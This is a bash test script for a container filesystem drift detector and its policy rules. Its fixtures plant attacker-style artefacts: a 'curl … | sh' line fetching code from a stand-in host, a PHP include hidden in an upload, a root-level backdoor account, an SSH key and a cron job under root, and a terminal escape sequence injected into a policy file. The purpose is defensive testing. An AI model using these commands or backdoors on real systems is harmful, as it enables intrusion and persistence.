# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
# What is expected is explained, by whom and until when; what nobody allowed is found.
need jq
sl() { timeout 120 "$STRANDLINE" --db "$PWD/db" "$@"; }

mkdir -p base/etc base/srv upper/etc upper/srv/uploads/a upper/opt
echo 'root:x:0:0::/:/bin/sh' >base/etc/passwd
echo 'a=1' >base/etc/app.conf
bash "$SOURCE_DIR/samples/make-oci.sh" oci 1 base >/dev/null
echo 'a=2' >upper/etc/app.conf
{ cat base/etc/passwd; echo 'eve:x:0:0::/:/bin/sh'; } >upper/etc/passwd
for i in 1 2 3 4 5 6; do echo "$i" >"upper/srv/uploads/a/$i.txt"; done
printf '#!/bin/sh\n' >upper/srv/uploads/a/run.sh
head -c 5000 /dev/zero >upper/srv/uploads/a/large
echo 'price <?php include $x; ?>' >upper/srv/uploads/a/price.txt
echo 'curl -s 203.0.113.7 | sh' >upper/srv/uploads/a/notes
{ echo GIF89a; head -c 600 /dev/zero; head -c 200 /bin/true; } >upper/srv/uploads/a/dot.gif
me=$(id -u):$(id -g)

rule() { # rule NAME LINE...: a policy of one rule
	echo "version: 1"
	echo "rules:"
	echo "  - name: $1"
	echo "    approved_by: Jane Doe"
	echo "    reason: a test"
	shift
	printf '    %s\n' "$@"
}
# shellcheck disable=SC2120 # it is given policies through it and exits
diff_by() { sl diff --upper upper --image oci:oci:1 --accept-unproven --format json -o out.json "$@" 2>said; }
explained() {
	jq -r '[.containers[0].findings[] | select(.explained_by.cause == "policy") | .path] | join(" ")' out.json
}

rule uploads 'paths: ["/srv/uploads", "/srv/uploads/**"]' 'changes: [added]' 'max_size: 1K' \
	"owners: [\"$me\"]" 'expires: 2999-01-01' >p.yaml
it "what is not expected is still found" exits 1 diff_by --policy p.yaml
it "what is expected is explained; programs, code in texts and large files are not" same \
	"/srv/uploads /srv/uploads/a /srv/uploads/a/1.txt /srv/uploads/a/2.txt /srv/uploads/a/3.txt /srv/uploads/a/4.txt /srv/uploads/a/5.txt /srv/uploads/a/6.txt" "$(explained)"
it "with the rule, who approved it, and why" same "uploads|Jane Doe|a test" \
	"$(jq -r '[.containers[0].findings[] | select(.path == "/srv/uploads/a/1.txt").explained_by | .name, .approved_by, .reason] | join("|")' out.json)"
it "and counted as explained" same true \
	"$(jq '.containers[0].counts.explained >= 8 and .containers[0].counts.modified == 2' out.json)"
if python3 -c 'import jsonschema' 2>/dev/null; then
	it "the document follows its schema" python3 -c 'import json, sys, jsonschema
jsonschema.validate(json.load(open("out.json")), json.load(open(sys.argv[1])))' \
		"$SOURCE_DIR/docs/schema/drift-1.schema.json"
fi

rule everything 'paths: ["/**"]' 'allow: [program]' 'expires: 2999-01-01' >wide.yaml
it "an account file is not explained, however wide a rule is" exits 1 diff_by --policy wide.yaml
it "but everything else is" same "/etc/passwd" \
	"$(jq -r '[.containers[0].findings[] | select(.explained_by == null and .severity != "info") | .path] | join(" ")' out.json)"
it "and its width is warned of" contains said "expects anything anywhere"
rule accounts 'paths: ["/etc/passwd"]' 'allow: [account]' 'expires: 2999-01-01' >accounts.yaml
it "an account file that is allowed is explained; two files are one policy" exits 0 diff_by -p wide.yaml -p accounts.yaml

mkdir -p upper/root/.ssh upper/etc/cron.d
echo 'ssh-ed25519 AAAA eve' >upper/root/.ssh/authorized_keys
echo '* * * * * root /opt/x' >upper/etc/cron.d/x
rule wide 'paths: ["/root/**", "/etc/cron.d/**"]' 'expires: 2999-01-01' >grave.yaml
it "what is grave by itself is not explained by its place" exits 1 diff_by --policy grave.yaml
it "its directory is" same "/root/.ssh" "$(explained | xargs -n1 | grep -v /srv | sort | xargs)"
rule wide 'paths: ["/root/**", "/etc/cron.d/**"]' 'allow: [severe]' 'expires: 2999-01-01' >grave.yaml
it "with the approver's word it is" eval 'exits 1 diff_by --policy grave.yaml; same "/etc/cron.d/x /root/.ssh /root/.ssh/authorized_keys" "$(explained | xargs -n1 | sort | xargs)"'
rm -r upper/root upper/etc/cron.d

rule old 'paths: ["/**"]' 'allow: [program, account]' 'expires: 2020-01-01' >old.yaml
it "an expired rule explains nothing" exits 1 diff_by --policy old.yaml
it "which is told" contains said "has expired"
it "so nothing is explained" same "" "$(explained)"
rule other 'containers: ["nobody"]' 'paths: ["/**"]' 'expires: 2999-01-01' >other.yaml
it "a rule about others explains nothing" exits 1 diff_by --policy other.yaml
it "and that it is about others is told" contains said "is about none of these containers"
rule idle 'paths: ["/nowhere/*"]' 'expires: 2999-01-01' >idle.yaml
it "a rule without any finding is told" eval 'exits 1 diff_by --policy idle.yaml && contains said "explained nothing"'
rule id "images: [\"$(jq -r '.containers[0].image.id' out.json)\"]" 'paths: ["/etc/app.conf"]' 'expires: 2999-01-01' >id.yaml
it "an image is known by its id" eval 'exits 1 diff_by --policy id.yaml && same "/etc/app.conf" "$(explained)"'

# ---- the commands
it "a good policy passes" exits 0 sl policy check p.yaml
it "an old one is found" exits 1 sl policy check old.yaml -o warned
it "with its line" contains warned "old.yaml:3: rule 'old' has expired"
diff_by >/dev/null || true
it "a document is tried on" exits 1 sl policy test p.yaml out.json -o tried 2>said
it "a line a finding" contains tried "added     /srv/uploads/a/1.txt  explained by uploads"
it "what it leaves, too" contains tried "critical  modified  /etc/passwd"
it "and a sum" contains said "8 explained"
it "who approves a proposal must be said" eval 'exits 2 sl policy learn web 2>said && contains said --by'
wrong() { # wrong WHAT LINE...: a policy with these lines is refused, and the file and line are told
	local what=$1
	shift
	rule bad "$@" >bad.yaml
	exits 2 sl policy check bad.yaml 2>said && contains said "bad.yaml:" && contains said "$what"
}
it "an unknown key is refused" wrong "pathes" 'pathes: ["/x"]'
it "a missing path is refused" wrong "paths" 'changes: [added]'
it "a relative path is refused" wrong "begins with /" 'paths: ["etc/x"]'
it "an unknown change is refused" wrong "gone" 'paths: ["/x"]' 'changes: [gone]'
it "a policy of layers is refused" wrong "layer" 'paths: ["/x"]' 'kinds: [layer]'
it "an owner by name is refused" wrong "in digits" 'paths: ["/x"]' 'owners: ["root"]'
for odd in /x/../y /x//y /x/ /x/./y /x/**/; do
	it "a path that no file has is refused: $odd" wrong "matches no path" "paths: [\"$odd\"]"
done
it "a day that no month has is refused" wrong "should be a date" 'paths: ["/x"]' 'expires: 2027-02-29'
printf 'version: 1\nrules:\n  - name: x\n\t  paths: ["/x"]\n' >bad.yaml
it "a tab is called one" eval 'exits 2 sl policy check bad.yaml 2>said && contains said "bad.yaml:4:1: a tab"'
for wide in '/**' '/?*/**' '/**/?*' '/*/?**' '/***'; do
	rule wide "paths: [\"$wide\"]" 'expires: 2999-01-01' >wild.yaml
	it "wildcards alone are warned of: $wide" eval 'exits 1 sl policy check wild.yaml -o warned && contains warned "anything anywhere"'
done
rule wide 'kinds: [process]' 'subjects: ["**"]' 'expires: 2999-01-01' >wild.yaml
it "of subjects, too" exits 1 sl policy check wild.yaml -o warned
it "an empty list is refused" wrong "should be a list" 'paths: []'
it "paths without files are refused" wrong "'paths' are for kind file" 'paths: ["/x"]' 'kinds: [process]' 'subjects: ["x"]'
printf 'version: 2\nrules: []\n' >bad.yaml
it "a later version is refused" eval 'exits 2 sl policy check bad.yaml 2>said && contains said "bad.yaml:1:"'
it "two rules of one name are refused" eval 'exits 2 sl policy check p.yaml p.yaml 2>said && contains said "uploads"'
echo '{}{}' >lines.jsonl
it "lines are no document" eval 'exits 2 sl policy test p.yaml lines.jsonl 2>said; contains said "no whole document of"'
it "what is no document is refused" exits 2 sl policy test p.yaml p.yaml -o /dev/null 2>said
it "the sample is a good policy" eval 'exits 0 sl policy check "$SOURCE_DIR/samples/policies/web.yaml" -o warned || lacks warned anywhere'

# ---- files that nobody should have written
printf '\xef\xbb\xbfversion: 1\r\nrules: []\r\n' >mark.yaml
it "a byte order mark and carriage returns are no fault" "$STRANDLINE" policy check mark.yaml
printf 'version: 1\nrules:\n  - name: a\n    approved_by: a\n    reason: a\n    paths: [/ok, "\\e]0;owned\\a"]\n' >escape.yaml
it "a path that is none is refused" exits 2 "$STRANDLINE" policy check escape.yaml 2>said
it "at its place, with nothing in it that acts on a terminal" contains said 'escape.yaml:6:18: "\x1b]0;owned\x07" should be'
